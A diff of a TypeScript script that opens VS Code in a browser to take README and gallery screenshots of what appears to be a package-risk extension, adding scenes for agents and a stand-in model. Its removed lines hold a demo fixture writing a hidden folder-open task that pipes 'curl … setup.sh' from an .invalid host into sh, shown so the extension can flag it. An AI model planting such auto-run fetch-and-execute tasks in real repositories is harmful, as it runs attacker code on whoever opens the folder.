@@ -1,12 +1,13 @@
-// `npm run screenshots [-- dark|light|contrast …]`: the README's pictures and those of the gallery, of the example project as the
-// real registry answers today. With themes named, only the gallery's in these.
-import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+// `npm run screenshots [-- dark|light|contrast … manifest|repository|agents|opinion …]`: the README's pictures and those of the
+// gallery, of the example project as the real registry answers today. With themes or scenes named, only the gallery's of these.
+import { mkdir, mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import process from 'node:process';
 import type { Locator, Page } from 'playwright-core';
 import { PROJECT_ROOT } from './build/project-root.js';
-import { takeGallery, takeRepository, type TakePicture } from './gallery-pictures.js';
+import { codeOfShop, type Content, editAsAgents, example, hostileTask, standInModel } from './gallery-contents.js';
+import { takeAgents, takeGallery, takeOpinion, takeRepository, type TakePicture } from './gallery-pictures.js';
 import { newestBuild } from './vscode/builds.js';
 import { ensureChromium } from './vscode/chromium.js';
 import { type Cleanup, withCleanup } from './vscode/cleanup.js';
@@ -40,6 +41,8 @@ const SETTINGS = {
   'editor.lightbulb.enabled': 'off',
   'editor.hover.above': false,
   'npm.fetchOnlinePackageInfo': false,
+  // The data that comes with the program is as old as the program is on the day of the pictures.
+  'packageRisk.intelligence.maximumAge': 0,
   // What the picture of a hostile folder shows is not to run.
   'task.allowAutomaticTasks': 'off',
 };
@@ -49,28 +52,21 @@ const SIZE = { width: 1100, height: 860, scale: 2 };
 /** There are many of them, and nobody prints them. */
 const GALLERY_SIZE = { ...SIZE, width: 1000, scale: 1 };
 
-/** Makes what is opened in an empty folder, and says which of its files is shown. */
-type Content = (folder: string) => Promise<string>;
-
-async function example(folder: string): Promise<string> {
-  await cp(path.join(PROJECT_ROOT, 'examples', 'shop'), folder, { recursive: true });
-  return 'package.json';
+/** A window of the editor, and the folder that is open in it. */
+interface Opened {
+  readonly page: Page;
+  readonly workspace: string;
 }
 
-/** A task for an applicant, as they have been handed out; what it fetches is nowhere. */
-async function hostileTask(folder: string): Promise<string> {
-  const [file, scripts] = ['.vscode/tasks.json', { start: 'node server.js', test: 'mocha' }];
-  const command = 'curl -fsSL https://tools.shop.invalid/setup.sh | sh';
-  const presentation = { reveal: 'never', echo: false };
-  const task = { label: 'env', type: 'shell', command, presentation, runOptions: { runOn: 'folderOpen' } };
-  await mkdir(path.join(folder, '.vscode'), { recursive: true });
-  await writeFile(path.join(folder, file), `${JSON.stringify({ version: '2.0.0', tasks: [task] }, undefined, 2)}\n`);
-  await writeFile(path.join(folder, 'package.json'), `${JSON.stringify({ name: 'task', scripts }, undefined, 2)}\n`);
-  await writeFile(path.join(folder, 'server.js'), "console.log('a shop');\n");
-  return file;
+interface Given {
+  readonly theme: Theme;
+  readonly size: typeof SIZE;
+  readonly content: Content;
+  /** Makes a further extension in an empty folder. */
+  readonly companion?: (folder: string) => Promise<void>;
 }
 
-async function openWindow(cleanup: Cleanup, theme: Theme, size: typeof SIZE, content: Content): Promise<Page> {
+async function openWindow(cleanup: Cleanup, { theme, size, content, companion }: Given): Promise<Opened> {
   const say = (message: string): void => console.log(message);
   const chromium = await ensureChromium(say);
   const installation = await installVscode(newestBuild(), say);
@@ -79,12 +75,17 @@ async function openWindow(cleanup: Cleanup, theme: Theme, size: typeof SIZE, con
   const workspace = path.join(scratch, 'shop');
   const file = await content(workspace);
   await addExtension(scratch, PROJECT_ROOT);
+  if (companion !== undefined) {
+    const folder = path.join(scratch, 'companion');
+    await companion(folder);
+    await addExtension(scratch, folder, 'gallery.companion-1.0.0');
+  }
   const env = { PATH: await pathWithoutNpm(scratch) };
   const settings = { ...SETTINGS, 'workbench.colorTheme': THEMES[theme] };
   const server = await startVscodeServer(installation, { dataFolder: scratch, settings, env }, cleanup);
   const page = await openBrowser({ executable: chromium, ...size }, cleanup);
   await page.goto(workbenchUrl(server, { workspace, file: path.join(workspace, file) }));
-  return page;
+  return { page, workspace };
 }
 
 /** Until there are problems, and nothing is asked any more. */
@@ -138,20 +139,48 @@ function intoGallery(page: Page): TakePicture {
   return (name, height) => takePicture(page, path.join('gallery', name), height, GALLERY_SIZE.width);
 }
 
-async function gallery(page: Page, theme: Theme): Promise<void> {
+type Scene = (theme: Theme, cleanup: Cleanup) => Promise<void>;
+
+/** The scenes of the gallery: each is a window of its own. */
+const SCENES: Readonly<Record<string, Scene>> = {
+  async manifest(theme, cleanup) {
+    const { page } = await openWindow(cleanup, { theme, size: GALLERY_SIZE, content: example });
+    await toManifest(page);
+    await takeGallery(page, theme, intoGallery(page));
+  },
+  async repository(theme, cleanup) {
+    const { page } = await openWindow(cleanup, { theme, size: GALLERY_SIZE, content: hostileTask });
+    await takeRepository(page, theme, intoGallery(page));
+  },
+  async agents(theme, cleanup) {
+    const { page, workspace } = await openWindow(cleanup, { theme, size: GALLERY_SIZE, content: codeOfShop });
+    await takeAgents(page, theme, intoGallery(page), () => editAsAgents(workspace));
+  },
+  async opinion(theme, cleanup) {
+    const given = { theme, size: GALLERY_SIZE, content: example, companion: standInModel };
+    const { page } = await openWindow(cleanup, given);
+    await toManifest(page);
+    await takeOpinion(page, theme, intoGallery(page));
+  },
+};
+
+async function toManifest(page: Page): Promise<void> {
   await judged(page);
   await page.keyboard.press('Control+B');
   await page.keyboard.press('Control+1');
-  await takeGallery(page, theme, intoGallery(page));
 }
 
-const named = process.argv.slice(2).filter((one): one is Theme => one in THEMES);
+const given = process.argv.slice(2);
+const themes = given.filter((one): one is Theme => one in THEMES);
+const scenes = given.filter((one) => one in SCENES);
 await mkdir(path.join(TARGET, 'gallery'), { recursive: true });
-if (named.length === 0) await withCleanup(async (cleanup) => main(await openWindow(cleanup, 'dark', SIZE, example)));
-for (const theme of named.length === 0 ? (Object.keys(THEMES) as Theme[]) : named) {
-  await withCleanup(async (cleanup) => gallery(await openWindow(cleanup, theme, GALLERY_SIZE, example), theme));
+if (themes.length + scenes.length === 0) {
   await withCleanup(async (cleanup) => {
-    const page = await openWindow(cleanup, theme, GALLERY_SIZE, hostileTask);
-    await takeRepository(page, theme, intoGallery(page));
+    await main((await openWindow(cleanup, { theme: 'dark', size: SIZE, content: example })).page);
   });
+}
+for (const theme of themes.length === 0 ? (Object.keys(THEMES) as Theme[]) : themes) {
+  for (const [name, scene] of Object.entries(SCENES)) {
+    if (scenes.length === 0 || scenes.includes(name)) await withCleanup((cleanup) => scene(theme, cleanup));
+  }
 }
